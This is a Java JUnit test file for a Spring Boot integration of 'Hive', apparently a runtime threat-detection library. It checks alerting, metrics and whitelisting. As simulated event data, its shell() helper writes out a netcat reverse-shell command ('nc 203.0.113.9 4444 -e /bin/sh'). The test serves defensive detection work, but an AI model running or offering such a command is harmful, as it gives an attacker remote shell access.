package io.hivesec.examples.embed;

import static org.assertj.core.api.Assertions.assertThat;

import io.hivesec.Hive;
import io.hivesec.alert.Report;
import io.hivesec.artifact.FileArtifact;
import io.hivesec.event.Event;
import io.hivesec.testkit.Scene;
import io.micrometer.core.instrument.MeterRegistry;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.boot.SpringApplication;
import org.springframework.boot.WebApplicationType;
import org.springframework.context.ConfigurableApplicationContext;
import org.springframework.context.annotation.Bean;
import org.springframework.context.annotation.Configuration;

/** A Spring Boot application with Hive in it. */
final class HiveConfigurationTest {
    @TempDir
    private Path directory;

    /** What the application brings of its own. */
    @Configuration(proxyBeanMethods = false)
    static class Application {
        @Bean
        MeterRegistry registry() {
            return new SimpleMeterRegistry();
        }
    }

    @Test
    void inspect_injectedHive_alertsAndIsCounted() {
        try (ConfigurableApplicationContext context = start()) {
            Report report = last(context.getBean(Hive.class), shell());
            assertThat(report.alerts()).hasSize(1);
            MeterRegistry registry = context.getBean(MeterRegistry.class);
            assertThat(registry.get("hive.alerts")
                            .tags("type", "reverse_shell")
                            .counter()
                            .count())
                    .isEqualTo(1);
            assertThat(registry.get("hive.inspect").timer().count()).isEqualTo(shell().size());
        }
    }

    @Test
    void scan_injectedHive_isTimed() {
        try (ConfigurableApplicationContext context = start()) {
            context.getBean(Hive.class).scan(FileArtifact.of("a.txt", "hello".getBytes(StandardCharsets.UTF_8)));
            assertThat(context.getBean(MeterRegistry.class)
                            .get("hive.scan")
                            .timer()
                            .count())
                    .isEqualTo(1);
        }
    }

    @Test
    void inspect_ruleFileFromAProperty_isHonoured() throws IOException {
        Path rules = directory.resolve("trusted.json");
        Files.writeString(
                rules,
                "{\"version\":1,\"rules\":[{\"id\":\"r\",\"type\":\"reverse_shell\",\"creator\":\"ann\","
                        + "\"created\":\"2026-01-01T00:00:00Z\",\"conditions\":{\"processes\":\"nc\"}}]}");
        try (ConfigurableApplicationContext context = start("--hive.whitelist=" + rules)) {
            Report report = last(context.getBean(Hive.class), shell());
            assertThat(report.alerts()).isEmpty();
            assertThat(report.whitelisted()).hasSize(1);
            assertThat(context.getBean(MeterRegistry.class)
                            .get("hive.whitelisted")
                            .counter()
                            .count())
                    .isEqualTo(1);
        }
    }

    private static ConfigurableApplicationContext start(String... arguments) {
        SpringApplication application = new SpringApplication(Application.class, HiveConfiguration.class);
        application.setWebApplicationType(WebApplicationType.NONE);
        application.setLogStartupInfo(false);
        return application.run(arguments);
    }

    private static List<Event> shell() {
        Scene scene = Scene.in("web-1");
        scene.starts("/usr/bin/nc", "nc", "203.0.113.9", "4444", "-e", "/bin/sh");
        return scene.events();
    }

    private static Report last(Hive hive, List<Event> events) {
        Report report = Report.EMPTY;
        for (Event event : events) {
            report = hive.inspect(event);
        }
        return report;
    }
}
